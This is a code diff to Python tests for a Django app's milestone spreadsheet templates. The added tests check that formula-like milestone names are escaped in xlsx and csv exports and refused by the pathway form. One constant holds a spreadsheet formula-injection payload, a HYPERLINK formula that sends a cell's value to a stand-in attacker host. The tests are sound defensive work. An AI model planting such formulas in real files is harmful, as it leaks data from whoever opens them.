@@ -102,17 +102,12 @@ def test_a_filled_xlsx_template_round_trips_to_the_expected_records(template):
     buffer = io.BytesIO()
     workbook.save(buffer)
 
-    result = validate_milestone_file(
-        buffer.getvalue(), "filled.xlsx", DEFAULT_MILESTONES, DEFAULT_ROUTES, TODAY
-    )
+    result = validate_milestone_file(buffer.getvalue(), "filled.xlsx", DEFAULT_MILESTONES, DEFAULT_ROUTES, TODAY)
     assert result.layout == "wide"
     assert result.rows == 2
     assert result.problems == []
     assert set(result.matched_columns.values()) == {m.code for m in DEFAULT_MILESTONES}
-    assert [
-        (row.child_ref, row.route, row.milestone, row.date.date())
-        for row in result.records.itertuples()
-    ] == [
+    assert [(row.child_ref, row.route, row.milestone, row.date.date()) for row in result.records.itertuples()] == [
         ("C-1", "adoption", "looked_after", date(2024, 3, 1)),
         ("C-1", "adoption", "panel", date(2024, 9, 1)),
         ("C-2", "home", "looked_after", date(2024, 5, 20)),
@@ -122,3 +117,43 @@ def test_a_filled_xlsx_template_round_trips_to_the_expected_records(template):
         {"child_ref": "C-1", "route": "adoption"},
         {"child_ref": "C-2", "route": "home"},
     ]
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+
+
+def test_a_milestone_named_like_a_formula_is_written_as_text_in_both_templates(cast):
+    from measures.milestones.pathway import pathway_ensure_defaults
+    from measures.models import Milestone
+    from pace_hub.roles import Role
+
+    pathway_ensure_defaults(cast.org)
+    # Set directly: the pathway form refuses such names, but older data may hold one.
+    Milestone.objects.filter(organisation=cast.org, code="panel").update(name=FORMULA_NAME)
+    client = cast.client(Role.DATA)
+    base = f"/o/{cast.org.slug}/measures/data/"
+    workbook = load_workbook(io.BytesIO(client.get(base + "template.xlsx").content))
+    headers = list(next(workbook["Milestones"].iter_rows(min_row=1, max_row=1)))
+    cell = next(cell for cell in headers if "HYPERLINK" in str(cell.value))
+    assert cell.data_type == "s" and cell.value == "'" + FORMULA_NAME
+    csv_header = client.get(base + "template.csv").content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_header and ',"=HYPERLINK' not in csv_header and not csv_header.startswith("=")
+
+
+def test_a_filled_template_with_a_guarded_header_still_matches_its_milestone():
+    milestones = [*DEFAULT_MILESTONES[:4], type(DEFAULT_MILESTONES[0])("panel", FORMULA_NAME)]
+    content = wide_template_csv(milestones) + b"C-1,,01/03/2024,,,,01/06/2024\r\n"
+    result = validate_milestone_file(content, "t.csv", milestones, DEFAULT_ROUTES, TODAY)
+    assert result.problems == []
+    assert sorted(result.records["milestone"].tolist()) == ["looked_after", "panel"]
+
+
+def test_the_pathway_refuses_milestone_names_that_start_like_a_formula_or_read_as_identifying(cast):
+    from django.core.exceptions import ValidationError
+
+    from measures.milestones.pathway import milestone_create
+
+    with pytest.raises(ValidationError, match="formula"):
+        milestone_create(organisation=cast.org, code="x", name=FORMULA_NAME, after=None)
+    with pytest.raises(ValidationError, match="reads like a date of birth"):
+        milestone_create(organisation=cast.org, code="y", name="Date of birth", after=None)
